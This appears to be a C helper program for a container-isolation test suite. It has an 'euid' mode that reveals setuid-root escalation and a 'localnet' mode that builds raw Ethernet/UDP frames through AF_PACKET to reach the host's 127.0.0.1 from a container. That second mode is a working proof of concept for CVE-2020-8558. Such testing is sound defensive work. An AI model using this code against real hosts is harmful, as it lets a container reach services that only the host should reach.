/*
 * The attacker's tools for attack-hostfs.bats, built static so that they run in the busybox
 * rootfs and on the host alike.
 *
 *   hostfs-probe euid
 *       prints the effective uid: a setuid-root copy run by a host user prints 0.
 *   hostfs-probe localnet IFACE ADDRESS PORT TEXT
 *       sends TEXT as one UDP datagram to ADDRESS:PORT (e.g. 127.0.0.1) in an Ethernet frame
 *       to the MAC of IFACE's default gateway (the host's bridge, learnt by ARP), from
 *       IFACE's own address, by AF_PACKET: what a container with NET_RAW can do
 *       (CVE-2020-8558). Prints "sent".
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

static void die(const char *fmt, ...) {
  va_list ap;
  int saved = errno;
  va_start(ap, fmt);
  fputs("hostfs-probe: ", stderr);
  vfprintf(stderr, fmt, ap);
  va_end(ap);
  if (saved != 0) fprintf(stderr, ": %s", strerror(saved));
  fputc('\n', stderr);
  exit(1);
}

static uint16_t ip_checksum(const void *data, size_t len) {
  const uint8_t *p = data;
  uint32_t sum = 0;
  for (size_t i = 0; i + 1 < len; i += 2) sum += (uint32_t)(p[i] << 8 | p[i + 1]);
  if (len % 2) sum += (uint32_t)(p[len - 1] << 8);
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return htons((uint16_t)~sum);
}

static void parse_mac(const char *text, unsigned char mac[6]) {
  unsigned int b[6];
  char end;
  if (sscanf(text, "%x:%x:%x:%x:%x:%x%c", &b[0], &b[1], &b[2], &b[3], &b[4], &b[5], &end) != 6) {
    errno = 0;
    die("not a MAC address: %s", text);
  }
  for (int i = 0; i < 6; i++) mac[i] = (unsigned char)b[i];
}

/* GATEWAY = the default gateway of IFACE, from /proc/net/route. */
static void default_gateway(const char *iface, struct in_addr *gateway) {
  char line[256], name[64];
  unsigned int dest, gw;
  FILE *f = fopen("/proc/net/route", "r");
  if (f == NULL) die("open /proc/net/route");
  while (fgets(line, sizeof line, f) != NULL) {
    if (sscanf(line, "%63s %x %x", name, &dest, &gw) == 3 && strcmp(name, iface) == 0 && dest == 0 && gw != 0) {
      gateway->s_addr = gw; /* both in network order */
      fclose(f);
      return;
    }
  }
  errno = 0;
  die("%s has no default gateway", iface);
}

/* MAC = the link address of GATEWAY: one datagram to its discard port makes the kernel
 * ask by ARP; the answer shows in /proc/net/arp. */
static void gateway_mac(struct in_addr gateway, unsigned char mac[6]) {
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(9), .sin_addr = gateway};
  char line[256], address[64], hw[64], wanted[INET_ADDRSTRLEN];
  unsigned int type, flags;
  int fd = socket(AF_INET, SOCK_DGRAM, 0);
  if (fd < 0) die("socket AF_INET");
  if (sendto(fd, "", 1, 0, (struct sockaddr *)&to, sizeof to) < 0) die("sendto the gateway");
  close(fd);
  inet_ntop(AF_INET, &gateway, wanted, sizeof wanted);
  for (int tries = 0; tries < 200; tries++) {
    FILE *f = fopen("/proc/net/arp", "r");
    if (f == NULL) die("open /proc/net/arp");
    while (fgets(line, sizeof line, f) != NULL) {
      if (sscanf(line, "%63s %x %x %63s", address, &type, &flags, hw) == 4 && strcmp(address, wanted) == 0 && (flags & 0x2)) {
        fclose(f);
        parse_mac(hw, mac);
        return;
      }
    }
    fclose(f);
    usleep(10000);
  }
  errno = 0;
  die("no ARP answer from the gateway %s", wanted);
}

static int localnet(char **argv) {
  const char *iface = argv[0], *text = argv[3];
  unsigned char frame[1500];
  struct iphdr *ip = (struct iphdr *)frame;
  struct udphdr *udp = (struct udphdr *)(frame + sizeof *ip);
  size_t text_len = strlen(text), total = sizeof *ip + sizeof *udp + text_len;
  struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_halen = 6};
  struct in_addr dst;
  struct ifreq ifr = {0};
  long port = strtol(argv[2], NULL, 10);
  struct in_addr gateway;

  errno = 0;
  if (total > sizeof frame) die("text too long");
  if (port <= 0 || port > 65535) die("not a port: %s", argv[2]);
  if (inet_pton(AF_INET, argv[1], &dst) != 1) die("not an IPv4 address: %s", argv[1]);
  if (strlen(iface) >= sizeof ifr.ifr_name) die("interface name too long: %s", iface);
  default_gateway(iface, &gateway);
  gateway_mac(gateway, to.sll_addr);

  int fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
  if (fd < 0) die("socket AF_PACKET");
  strcpy(ifr.ifr_name, iface);
  if (ioctl(fd, SIOCGIFINDEX, &ifr) < 0) die("SIOCGIFINDEX %s", iface);
  to.sll_ifindex = ifr.ifr_ifindex;
  if (ioctl(fd, SIOCGIFADDR, &ifr) < 0) die("SIOCGIFADDR %s", iface);

  memset(frame, 0, sizeof frame);
  ip->version = 4;
  ip->ihl = 5;
  ip->ttl = 64;
  ip->protocol = IPPROTO_UDP;
  ip->tot_len = htons((uint16_t)total);
  ip->saddr = ((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr.s_addr;
  ip->daddr = dst.s_addr;
  ip->check = ip_checksum(ip, sizeof *ip);
  udp->source = htons(40000);
  udp->dest = htons((uint16_t)port);
  udp->len = htons((uint16_t)(sizeof *udp + text_len));
  udp->check = 0; /* none: allowed for UDP over IPv4 */
  memcpy(frame + sizeof *ip + sizeof *udp, text, text_len);

  if (sendto(fd, frame, total, 0, (struct sockaddr *)&to, sizeof to) != (ssize_t)total) die("sendto %s", iface);
  close(fd);
  puts("sent");
  return 0;
}

int main(int argc, char **argv) {
  if (argc == 2 && strcmp(argv[1], "euid") == 0) {
    printf("%u\n", (unsigned)geteuid());
    return 0;
  }
  if (argc == 6 && strcmp(argv[1], "localnet") == 0) return localnet(argv + 2);
  fprintf(stderr, "usage: hostfs-probe euid | localnet IFACE ADDRESS PORT TEXT\n");
  return 2;
}
